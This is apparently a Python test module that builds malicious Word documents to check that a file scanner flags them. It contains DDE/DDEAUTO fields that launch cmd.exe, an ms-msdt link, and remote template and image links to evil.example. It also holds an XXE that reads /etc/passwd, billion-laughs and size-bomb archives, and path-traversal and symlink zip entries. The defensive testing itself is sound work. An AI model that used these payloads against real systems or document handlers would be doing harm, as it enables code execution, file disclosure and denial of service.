"""Word and Excel files that mean harm."""

from __future__ import annotations

import io
import struct
import zipfile

from tests.common import samples
from tests.common.hostile import EICAR, EXE, MEGABYTE, OLE, SCRIPT, Hostile, bad
from tests.common.samples import XML, docx, docx_parts, package, relations, types, words

MACRO = samples.WORD.replace(
    "openxmlformats-officedocument.wordprocessingml.document",
    "ms-word.document.macroEnabled",
)
LAUGHS = (
    f'{XML}<!DOCTYPE a [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    + "]><a>&a9;</a>"
)
XXE = f'{XML}<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
FIELD = "<w:p>" + "<w:r><w:instrText>{}</w:instrText></w:r>" * 3 + "</w:p>"


def related(*rows: tuple[str, str, bool]) -> bytes:
    return package({**docx_parts(), "word/_rels/document.xml.rels": relations(*rows)})


def with_types(more: str = "", main: str = samples.WORD, **parts: bytes | str) -> bytes:
    named = {name.replace("__", "/"): part for name, part in parts.items()}
    return package(
        {**docx_parts(), "[Content_Types].xml": types(main, more=more), **named}
    )


def with_entry(name: str, mode: int = 0) -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as made:
        entry = zipfile.ZipInfo(name)
        entry.external_attr = mode << 16
        made.writestr(entry, "x")
    return out.getvalue()


def locked_entry() -> bytes:
    """The mark of a locked entry, in its own head and in the directory."""
    made = bytearray(docx())
    made[6] |= 1
    at = made.index(b"PK\x01\x02")
    made[at + 8] |= 1
    return bytes(made)


def understated() -> bytes:
    """The directory and the head say one kilobyte; forty megabytes lie in it."""
    parts = {
        **docx_parts(),
        "word/document.xml": words("<w:p/>" * (40 * MEGABYTE // 6)),
    }
    made = bytearray(package(parts))
    real = struct.pack("<I", len(parts["word/document.xml"]))
    while (at := made.find(real)) >= 0:
        made[at : at + 4] = struct.pack("<I", 1024)
    return bytes(made)


def overlapping() -> bytes:
    """Every entry of the directory points at the same bytes."""
    parts = {
        **docx_parts(),
        **{f"word/media/{n}.xml": "<a/>" * 2000 for n in range(50)},
    }
    made = bytearray(package(parts))
    at, first = made.index(b"PK\x01\x02"), None
    while at >= 0:
        size = struct.unpack_from("<HHH", made, at + 28)
        if made[at + 46 : at + 57] == b"word/media/":
            first = first or made[at + 42 : at + 46]
            made[at + 42 : at + 46] = first
        at = made.find(b"PK\x01\x02", at + 46 + sum(size))
    return bytes(made)


def nested(depth: int) -> bytes:
    held = package({"x.txt": "x"})
    for _ in range(depth):
        held = package({"word/embeddings/a.docx": held, **docx_parts()})
    return held


def split(text: str) -> str:
    """A field whose name is cut over runs."""
    third = len(text) // 3
    return FIELD.format(text[:third], text[third : 2 * third], text[2 * third :])


def doubled() -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as made:
        made.writestr("WORD/document.xml", "x")
    return out.getvalue()


WORD: list[Hostile] = [
    bad(
        "Word: macro file under another name",
        "a.docx",
        with_types(main=MACRO),
        "mismatch",
        "macro",
    ),
    bad(
        "Word: holds a macro project",
        "a.docx",
        docx(word__vbaProject_bin=OLE).replace(b"vbaProject_bin", b"vbaProject.bin"),
        "macro",
    ),
    bad(
        "Word: declares a macro project",
        "a.docx",
        with_types(
            '<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        ),
        "macro",
    ),
    bad(
        "Word: ActiveX",
        "a.docx",
        package({**docx_parts(), "word/activeX/activeX1.xml": "<a/>"}),
        "macro",
    ),
    bad(
        "Word: OLE object",
        "a.docx",
        related(("oleObject", "embeddings/oleObject1.bin", False)),
        "embedded",
    ),
    bad(
        "Word: holds an OLE file",
        "a.docx",
        package({**docx_parts(), "word/media/a.png": OLE}),
        "embedded",
    ),
    bad(
        "Word: holds a program",
        "a.docx",
        package({**docx_parts(), "word/media/image1.emf": EXE}),
        "embedded",
    ),
    bad(
        "Word: holds a web page",
        "a.docx",
        package({**docx_parts(), "word/a.html": SCRIPT}),
        "embedded",
    ),
    bad(
        "Word: puts a web page in",
        "a.docx",
        related(("aFChunk", "chunk.dat", False)),
        "embedded",
    ),
    bad("Word: altChunk", "a.docx", docx('<w:altChunk id="r1"/>'), "embedded"),
    bad(
        "Word: template from the network",
        "a.docx",
        related(("attachedTemplate", "https://evil.example/a.dotm", True)),
        "linked",
    ),
    bad(
        "Word: template from a share",
        "a.docx",
        related(("attachedTemplate", "file://evil.example/a.dotm", True)),
        "linked",
    ),
    bad(
        "Word: picture from the network",
        "a.docx",
        related(("image", "https://evil.example/a.png", True)),
        "linked",
    ),
    bad(
        "Word: link that is script",
        "a.docx",
        related(("hyperlink", "javascript:alert(1)", True)),
        "linked",
    ),
    bad(
        "Word: link to a program",
        "a.docx",
        related(("hyperlink", "ms-msdt:/id PCWDiagnostic", True)),
        "linked",
    ),
    bad(
        "Word: link to a share",
        "a.docx",
        related(("hyperlink", "file://evil.example/a.exe", True)),
        "linked",
    ),
    bad(
        "Word: DDE field",
        "a.docx",
        docx(FIELD.format('DDE "cmd" "/c calc"', "", "")),
        "linked",
    ),
    bad(
        "Word: DDEAUTO cut over runs",
        "a.docx",
        docx(split('DDEAUTO c:\\cmd.exe "/k calc"')),
        "linked",
    ),
    bad(
        "Word: simple DDE field",
        "a.docx",
        docx('<w:fldSimple w:instr="DDEAUTO cmd calc"/>'),
        "linked",
    ),
    bad(
        "Word: text from the network",
        "a.docx",
        docx(FIELD.format('INCLUDETEXT "http://evil.example/a"', "", "")),
        "linked",
    ),
    bad(
        "Word: XXE",
        "a.docx",
        package({**docx_parts(), "word/document.xml": XXE}),
        "entities",
    ),
    bad(
        "Word: XXE in UTF-16",
        "a.docx",
        package(
            {
                **docx_parts(),
                "word/document.xml": XXE.replace("UTF-8", "UTF-16").encode("utf-16"),
            }
        ),
        "entities",
    ),
    bad(
        "Word: billion laughs",
        "a.docx",
        package({**docx_parts(), "word/styles.xml": LAUGHS}),
        "entities",
    ),
    bad(
        "Word: one long entity 100,000 times",
        "a.docx",
        package(
            {
                **docx_parts(),
                "docProps/app.xml": f'<!DOCTYPE a [<!ENTITY x "{"y" * 5000}">]><a>{"&x;" * 100_000}</a>',
            }
        ),
        "entities",
        "heavy",
    ),
    bad(
        "Word: text of 300 MB",
        "a.docx",
        lambda: package({**docx_parts(), "word/document.xml": b" " * (300 * MEGABYTE)}),
        "heavy",
    ),
    bad(
        "Word: text of 60 MB that packs a thousand times",
        "a.docx",
        lambda: docx("<w:p/>" * (60 * MEGABYTE // 6)),
        "heavy",
    ),
    bad("Word: says less than it holds", "a.docx", understated, "broken"),
    bad(
        "Word: 5,000 parts",
        "a.docx",
        lambda: package(
            {**docx_parts(), **{f"word/{n}.xml": "<a/>" for n in range(5000)}}
        ),
        "heavy",
    ),
    bad("Word: parts that share their bytes", "a.docx", overlapping, "heavy", "broken"),
    bad(
        "Word: elements 100,000 deep",
        "a.docx",
        lambda: docx("<w:p>" * 100_000 + "</w:p>" * 100_000),
        "heavy",
    ),
    bad("Word: files in files, 40 deep", "a.docx", lambda: nested(40), "embedded"),
    bad(
        "Word: archive as a part",
        "a.docx",
        package({**docx_parts(), "word/media/a.png": package({"a": "b"})}),
        "embedded",
    ),
    bad("Word: part with a way out", "a.docx", with_entry("../../evil.xml"), "outward"),
    bad(
        "Word: part with a whole path",
        "a.docx",
        with_entry("/etc/passwd.xml"),
        "outward",
    ),
    bad("Word: part with a Windows path", "a.docx", with_entry("c:/a.xml"), "outward"),
    bad(
        "Word: part that is a link",
        "a.docx",
        with_entry("word/a.xml", 0o120777),
        "outward",
    ),
    bad("Word: locked part", "a.docx", locked_entry, "encrypted"),
    bad(
        "Word: locked as a whole",
        "a.docx",
        OLE + "EncryptedPackage".encode("utf-16-le"),
        "broken",
    ),
    bad(
        "Word: EICAR in a part",
        "a.docx",
        package({**docx_parts(), "word/media/a.txt": EICAR}),
        "virus",
    ),
    bad(
        "Word: no document",
        "a.docx",
        package({"[Content_Types].xml": types()}),
        "mismatch",
    ),
    bad("Word: one part twice", "a.docx", doubled, "broken"),
    bad("Word: Excel file inside", "a.docx", samples.xlsx(), "mismatch"),
    bad(
        "Word: not XML",
        "a.docx",
        package({**docx_parts(), "word/document.xml": b"\xff\xfe<<<"}),
        "broken",
    ),
    bad(
        "Word: words behind the archive's end",
        "a.docx",
        docx()[:-2] + struct.pack("<H", len(SCRIPT)) + SCRIPT,
        "mixed",
    ),
]
